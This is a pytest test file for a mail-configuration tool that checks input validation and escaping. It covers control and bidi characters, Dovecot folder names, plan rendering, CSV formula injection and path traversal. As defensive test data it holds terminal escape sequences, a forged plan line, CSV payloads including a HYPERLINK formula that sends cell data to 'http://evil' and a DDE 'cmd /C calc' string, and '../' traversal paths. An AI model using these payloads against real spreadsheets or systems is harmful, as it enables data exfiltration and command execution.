"""Hostile input: control and bidi characters in every text field, Dovecot's folder-name rules, INBOX in any
case, escaping of live values in every rendering, CSV formulas, paths built from live data. Tables as data."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest

from mailstate.desired_state.loader import load_state
from mailstate.errors import Problem, ProviderError, ValidationError
from mailstate.text import CONTROL_RE, csv_cell, visible

pytestmark = pytest.mark.usefixtures("english")  # asserts validation's English texts

ORG = 'name = "Sở Công Thương tỉnh Bình Định"\ndomain = "sct.binhdinh.gov.vn"\n'

FORGED = "Chuyên viên\n     99. - delete person tuanpm  [ldap]\n          why: MIC art.5.3"
HOSTILE = {
    "newline": (FORGED, "U+000A"),
    "esc": ("Chuyên viên\x1b[2J\x1b[31m", "U+001B"),
    "nul": ("Phòng\x00 QLCN", "U+0000"),
    "del": ("Phòng\x7f", "U+007F"),
    "c1-nel": ("Phòng\x85X", "U+0085"),
    "c1-csi": ("Phòng\x9b2J", "U+009B"),
    "bidi-rlo": ("Phòng \u202eNCLQ", "U+202E"),
    "bidi-isolate": ("Phòng \u2066x\u2069", "U+2066"),
    "line-separator": ("Phòng\u2028X", "U+2028"),
    "tab": ("Phòng\tX", "U+0009"),
}

# (file, table header, key = value template, field label). {v} is the hostile value as a TOML string.
FIELDS = [
    ("mailstate.toml", "[organization]\ndomain = \"sct.binhdinh.gov.vn\"", 'name = {v}', "organization.name"),
    ("units/qlcn.toml", '[unit]\nid = "qlcn"', "name = {v}", "unit.name"),
    ("units/qlcn.toml", '[unit]\nid = "qlcn"\nname = "Phòng QLCN"', "abbreviation = {v}",
     "unit.abbreviation"),
    ("units/qlcn.toml", P := '[unit]\nid = "qlcn"\nname = "Phòng QLCN"\n[[person]]\nid = "bangnv"',
     "name = {v}", "person.name"),
    ("units/qlcn.toml", P + '\nname = "Nguyễn Văn Bằng"', "title = {v}", "person.title"),
    ("units/qlcn.toml", P + '\nname = "Nguyễn Văn Bằng"', "suspended = {v}", "person.suspended"),
    ("units/qlcn.toml", P + '\nname = "Nguyễn Văn Bằng"', "old_addresses = [{v}]", "person.old_addresses"),
    ("groups.toml", '[[group]]\nid = "lanhdao"', "name = {v}", "group.name"),
    ("folders.toml", '[[shared_folder]]\nmailbox = "bangnv"\npath = "Văn bản đến"', "purpose = {v}",
     "shared_folder.purpose"),
    ("folders.toml", '[[shared_folder]]\nmailbox = "bangnv"\npurpose = "Văn bản"', "path = {v}",
     "shared_folder.path"),
    ("grants.toml", '[[access_grant]]\nmailbox = "bangnv"\nto = "group:lanhdao"\nuntil = 2030-01-01',
     "reason = {v}", "access_grant.reason"),
    ("policy.toml", "[regulation]", "decision = {v}", "regulation.decision"),
    ("policy.toml", "[naming]", "person = {v}", "naming.person"),
    ("policy.toml", "[quota.overrides]", '{v} = "1 GiB"', "quota.overrides"),
    ("policy.toml", "[providers.ssh]", "archive_dir = {v}", "providers.ssh.archive_dir"),
]


def _toml(value: str) -> str:
    return json.dumps(value)  # a JSON string (ASCII, \\uXXXX escapes) is a TOML basic string


PERSON = '\n[[person]]\nid = "bangnv"\nname = "Nguyễn Văn Bằng"\n'
BASE = {
    "mailstate.toml": "[organization]\n" + ORG,
    "units/qlcn.toml": '[unit]\nid = "qlcn"\nname = "Phòng QLCN"\n' + PERSON,
    "groups.toml": '[[group]]\nid = "lanhdao"\nname = "Lãnh đạo"\nmembers = ["bangnv"]\n',
}


def _write(root: Path, file: str, header: str, line: str) -> int:
    """The small valid state ``BASE`` with ``file`` written as ``header`` then ``line`` (plus the person
    bangnv when the file is the unit's and the header does not hold it); returns the line of ``line``."""
    files = dict(BASE)
    at = header.count("\n") + 2
    body = header + "\n" + line + "\n"
    if file == "units/qlcn.toml" and "[[person]]" not in header:
        body += PERSON
    files[file] = body
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
    return at


@pytest.mark.parametrize("kind", list(HOSTILE))
@pytest.mark.parametrize(("file", "header", "line", "label"), FIELDS, ids=[f[3] for f in FIELDS])
def test_a_control_character_in_any_text_field_is_refused_at_its_line(
    tmp_path: Path, kind: str, file: str, header: str, line: str, label: str
) -> None:
    """Every text field refuses C0/C1 controls, DEL, line separators and bidi overrides: FILE:LINE: field:
    with the code point, and the message never carries the character itself."""
    value, code = HOSTILE[kind]
    at = _write(tmp_path, file, header, line.format(v=_toml(value)))
    with pytest.raises(ValidationError) as exc:
        load_state(tmp_path)
    if label == "quota.overrides":
        at -= 1  # a table key is not a field of its own: the table's line
    mine = [p for p in exc.value.problems if (p.file, p.line, p.field) == (file, at, label)]
    assert mine, "\n".join(map(str, exc.value.problems))
    assert code in mine[0].message
    for problem in exc.value.problems:
        assert not CONTROL_RE.search(str(problem)), "a problem shows the hostile character itself"


@pytest.mark.parametrize(("file", "header", "line", "label"), FIELDS, ids=[f[3] for f in FIELDS])
def test_the_same_fields_accept_vietnamese_text(
    tmp_path: Path, file: str, header: str, line: str, label: str
) -> None:
    """The table above is not refusing everything: a clean value in each field loads."""
    value = {"naming.person": "{given}{initials}", "person.old_addresses": "bang.old@sct.binhdinh.gov.vn",
             "quota.overrides": "bangnv", "shared_folder.path": "Văn bản đến/2026",
             "providers.ssh.archive_dir": "/srv/mail-archive",
             "unit.abbreviation": "qlcn2"}.get(label, "Phòng Quản lý Công nghiệp – Ủy ban (số 1)")
    _write(tmp_path, file, header, line.format(v=_toml(value)))
    load_state(tmp_path)


def test_a_problem_quoting_a_hostile_id_shows_it_escaped(tmp_path: Path) -> None:
    """A message that quotes the input (an invalid id) shows its controls escaped, on one line."""
    _write(tmp_path, "groups.toml", "[[group]]", 'id = "a\\u001b[2Jb"\nname = "G"')
    with pytest.raises(ValidationError) as exc:
        load_state(tmp_path)
    text = str(exc.value)
    assert "\x1b" not in text and "a\\x1b[2Jb" in text


def test_problem_str_escapes_every_part() -> None:
    p = Problem("units/x\n.toml", 3, "quota.overrides.a\u202e", "bad 'x\x1b[31m'")
    assert str(p) == "units/x\\n.toml:3: quota.overrides.a\\u202e: bad 'x\\x1b[31m'"


# --------------------------------------------------------------------------------------------------
# Shared-folder paths: Dovecot 2.3's rules (checked against the lab's Dovecot 2.3.19), INBOX in any case

FOLDERS_REFUSED = {
    ".": "'.' or '..'",
    "../x": "'.' or '..'",
    "a/../b": "'.' or '..'",
    "a/./b": "'.' or '..'",
    "~x": "begins with '~'",
    "/a": "begins with '/'",
    "a//b": "empty folder name",
    "a/": "empty folder name",
    "a/ /b": "empty folder name",
    "a*b": "wildcards",
    "a%b": "wildcards",
    "a" * 256: "256 bytes",
    "x" * 300: "300 bytes",
    "ệ" * 95: "256 bytes",  # modified UTF-7: 94 fit, 95 do not (measured on Dovecot 2.3.19)
    "/".join(["b" * 200] * 6): "at most 1024",
    "INBOX": "INBOX cannot be a shared folder",
    "inbox": "INBOX cannot be a shared folder",
    "a\x00b": "U+0000",
    "a\x1bb": "U+001B",
}
FOLDERS_ACCEPTED = ["a" * 255, "ệ" * 94, "a/~x", "a.b", ".hidden-not", "INBOX/Công văn", "Inbox/X",
                    "Văn bản đến/2026", "INBOXES", "Hồ sơ/inbox"]


def _folder_state(root: Path, *paths: str) -> list[int]:
    lines = []
    body = ""
    for p in paths:
        body += '[[shared_folder]]\nmailbox = "bangnv"\npurpose = "Văn bản"\n'
        lines.append(body.count("\n") + 1)
        body += f"path = {_toml(p)}\n\n"
    _write(root, "folders.toml", body.rstrip("\n"), "")
    return [n for n in lines]


@pytest.mark.parametrize("path", list(FOLDERS_REFUSED), ids=lambda p: repr(p[:12]))
def test_a_folder_path_dovecot_refuses_is_refused_at_validation(tmp_path: Path, path: str) -> None:
    """Paths Dovecot would refuse at CREATE (stopping every apply at that change) fail validate instead."""
    (line,) = _folder_state(tmp_path, path)
    with pytest.raises(ValidationError) as exc:
        load_state(tmp_path)
    mine = [p for p in exc.value.problems if (p.file, p.line, p.field) == ("folders.toml", line,
                                                                               "shared_folder.path")]
    assert mine and FOLDERS_REFUSED[path] in mine[0].message, str(exc.value)


@pytest.mark.parametrize("path", FOLDERS_ACCEPTED, ids=lambda p: repr(p[:12]))
def test_a_folder_path_dovecot_accepts_is_valid(tmp_path: Path, path: str) -> None:
    _folder_state(tmp_path, path)
    load_state(tmp_path)


@pytest.mark.parametrize(("first", "second"), [("INBOX/Công văn", "inbox/Công văn"),
                                               ("Inbox/X", "INBOX/X"), ("iNbOx/a/b", "INBOX/a/b")])
def test_two_folders_differing_only_in_the_case_of_inbox_are_one(tmp_path: Path, first: str,
                                                                   second: str) -> None:
    """The server treats INBOX case-insensitively: the second is a duplicate of the first, not a new folder
    whose purpose silently replaces the first's."""
    lines = _folder_state(tmp_path, first, second)
    with pytest.raises(ValidationError) as exc:
        load_state(tmp_path)
    (p,) = [p for p in exc.value.problems if p.field == "shared_folder.path"]
    assert (p.file, p.line) == ("folders.toml", lines[1])
    assert f"already defined at folders.toml:{lines[0] - 3}" in p.message and "INBOX" in p.message


def test_other_names_stay_case_sensitive(tmp_path: Path) -> None:
    _folder_state(tmp_path, "Hồ sơ/inbox", "Hồ sơ/INBOX", "Công văn", "công văn")
    assert len(load_state(tmp_path).shared_folders) == 4


def test_desired_imap_keys_an_inbox_folder_once_as_the_server_names_it(tmp_path: Path) -> None:
    """``inbox/X`` in the TOML is the server's ``INBOX/X``: one shared_folder record, and its acls are on
    INBOX/X (not a second folder that would be created and revoked on every plan)."""
    from mailstate.desired_state.projection_imap import project_imap

    _write(tmp_path, "folders.toml",
           '[[shared_folder]]\nmailbox = "bangnv"\npurpose = "Văn bản"\nread = ["group:lanhdao"]',
           'path = "inbox/X"')
    (tmp_path / "groups.toml").write_text('[[group]]\nid = "lanhdao"\nname = "Lãnh đạo"\nmembers = ["thuy"]\n'
                                          '[[person]]\nid = "thuy"\nname = "Trần Thủy"\nunit = "qlcn"\n',
                                          encoding="utf-8")
    out = project_imap(load_state(tmp_path), date(2026, 1, 1))
    keys = sorted(k for _kind, k in out.records)
    assert keys == ["bangnv/INBOX/X", "bangnv/INBOX/X#thuy"]


# --------------------------------------------------------------------------------------------------
# Renderings of live values


def _hostile_plan() -> object:
    from mailstate.desired_state.projection import Desired
    from mailstate.model.records import Record
    from mailstate.reconciler.plan.diff import diff
    from mailstate.reconciler.plan.plan import Plan

    def person(key: str, **attrs: object) -> Record:
        base = {"name": "Nguyễn Văn Bằng", "unit": "qlcn", "title": "Chuyên viên", "address": f"{key}@x.vn",
                "locked": False, "lock_reason": None}
        base.update(attrs)
        return Record("person", key, base, "ldap", "qlcn")

    desired = Desired(as_of=date(2026, 11, 23))
    desired.add(person("bangnv"), ["units/qlcn.toml:9: person bangnv"])
    live = {
        ("person", "bangnv"): person("bangnv", title=FORGED, name="[bold red]Bằng[/] \x1b[2J\u202eX"),
        ("person", "evil\x1b]0;pwned\x07\nx"): person("evil\x1b]0;pwned\x07\nx"),
    }
    changes, unlisted = diff(desired, live)
    return Plan.build(changes, unlisted, as_of=date(2026, 11, 23), live=live, organization="x.vn",
                      unit_names={"qlcn": "Phòng\x1b[5m QLCN\n# heading"})


def test_text_plan_shows_live_controls_escaped_and_forges_no_line() -> None:
    """A live title with a newline cannot add a line looking like a change; ESC and bidi are shown as
    escapes; rich markup in a value is printed as written (no colour without a TTY, none forged with one)."""
    from mailstate.reconciler.plan.render import TextRenderer

    plan = _hostile_plan()
    plain = TextRenderer(color=False).render(plan)  # type: ignore[arg-type]
    assert not CONTROL_RE.search(plain.replace("\n", ""))
    assert not re.search(r"^\s+99\. ", plain, re.M), plain
    assert "\\n     99. - delete person tuanpm" in plain
    assert "[bold red]Bằng[/] \\x1b[2J\\u202eX" in plain
    assert "evil\\x1b]0;pwned\\x07\\nx" in plain
    coloured = TextRenderer(color=True).render(plan)  # type: ignore[arg-type]
    assert "\x1b[2J" not in coloured and "\x1b]0;" not in coloured and "\u202e" not in coloured
    assert "[bold red]Bằng[/]" in coloured
    assert not re.search(r"^\s+99\. ", re.sub(r"\x1b\[[0-9;]*m", "", coloured), re.M)


def test_markdown_plan_shows_live_controls_escaped() -> None:
    from mailstate.reconciler.plan.render import MarkdownRenderer

    text = MarkdownRenderer().render(_hostile_plan())  # type: ignore[arg-type]
    assert not CONTROL_RE.search(text.replace("\n", ""))
    assert not re.search(r"^\s*(99\.|# heading|why:)", text, re.M), text
    assert "\\[bold red\\]" in text  # Markdown links/markup neutralised
    assert "`evil\\x1b]0;pwned\\x07\\nx`" in text


def test_visible_escapes_each_refused_character_and_nothing_else() -> None:
    assert visible("Nguyễn Văn Bằng – (số 1) [x] *y*") == "Nguyễn Văn Bằng – (số 1) [x] *y*"
    assert visible("a\nb\tc\x1b\x00\x7f\x85\u202e\u2028") == "a\\nb\\tc\\x1b\\x00\\x7f\\x85\\u202e\\u2028"


# --------------------------------------------------------------------------------------------------
# CSV formula injection (OWASP)

CSV_CASES = {
    '=HYPERLINK("http://evil","x")': "'=HYPERLINK(\"http://evil\",\"x\")",
    "+84 256 3822 123": "'+84 256 3822 123",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\t=1": "'\\t=1",
    "\r=1": "'\\r=1",
    "Trưởng phòng": "Trưởng phòng",
    "0256 3822 123": "0256 3822 123",
    "a=b": "a=b",
    "": "",
}


@pytest.mark.parametrize("value", list(CSV_CASES))
def test_csv_cell_neutralises_a_formula(value: str) -> None:
    assert csv_cell(value) == CSV_CASES[value]


def test_directory_csv_neutralises_every_column() -> None:
    from mailstate.adopt.directory import Entry, to_csv

    evil = '=HYPERLINK("http://evil/?"&A1,"Bấm")'
    e = Entry("person", "bangnv", evil, "qlcn", "+cmd|' /C calc'!A0", "@SUM(1+1)", "+84 256", "-x@x.vn")
    rows = list(csv.reader(io.StringIO(to_csv([e]))))
    assert rows[1][2] == "'" + evil
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# --------------------------------------------------------------------------------------------------
# Paths built from live data


@pytest.mark.parametrize("name", ["../x-2026-01-01", "a/b", ".", "..", ".x", "", "x\x00y", "x\ny"])
def test_an_archive_name_from_a_live_login_stays_inside_archive_dir(name: str) -> None:
    from mailstate.model.settings import SshSettings
    from mailstate.providers.doveadm.provider import SshProvider

    prov = SshProvider(SshSettings(archive_dir="/srv/mail-archive"))
    assert prov._path("bangnv-2026-01-01") == "/srv/mail-archive/bangnv-2026-01-01"
    with pytest.raises(ProviderError, match="not a plain file name"):
        prov._path(name)


def test_import_refuses_a_path_outside_out(tmp_path: Path) -> None:
    from mailstate.adopt.importer import _inside
    from mailstate.errors import MailstateError

    out = tmp_path / "out"
    out.mkdir()
    assert _inside(out, out / "units" / "qlcn.toml") == out / "units" / "qlcn.toml"
    for bad in (out / "units" / "../../../pwned.toml", Path("/tmp/x/abs-pwned.toml")):
        with pytest.raises(MailstateError, match="outside"):
            _inside(out, bad)
    (out / "link").symlink_to(tmp_path)
    with pytest.raises(MailstateError, match="outside"):
        _inside(out, out / "link" / "x.toml")


@pytest.mark.parametrize(("header", "line", "label"), [
    ("[lifecycle.cite]", "lock_after_leaving = {v}", "lifecycle.cite.lock_after_leaving"),
    ("[regulation.articles]", '"lifecycle.lock_after_leaving" = {v}',
     "regulation.articles.lifecycle.lock_after_leaving"),
])
def test_an_article_with_a_control_character_is_named_not_echoed(
    tmp_path: Path, header: str, line: str, label: str
) -> None:
    """An article ("13.2.b") is not free text, but a control character in one is still reported by its
    code point at its line, before the article's own format is checked (which would echo the value)."""
    value, code = HOSTILE["esc"]
    at = _write(tmp_path, "policy.toml", header, line.format(v=_toml("13" + value)))
    with pytest.raises(ValidationError) as exc:
        load_state(tmp_path)
    mine = [p for p in exc.value.problems if (p.file, p.line) == ("policy.toml", at)]
    assert mine and code in mine[0].message, "\n".join(map(str, exc.value.problems))
    for problem in exc.value.problems:
        assert not CONTROL_RE.search(str(problem))
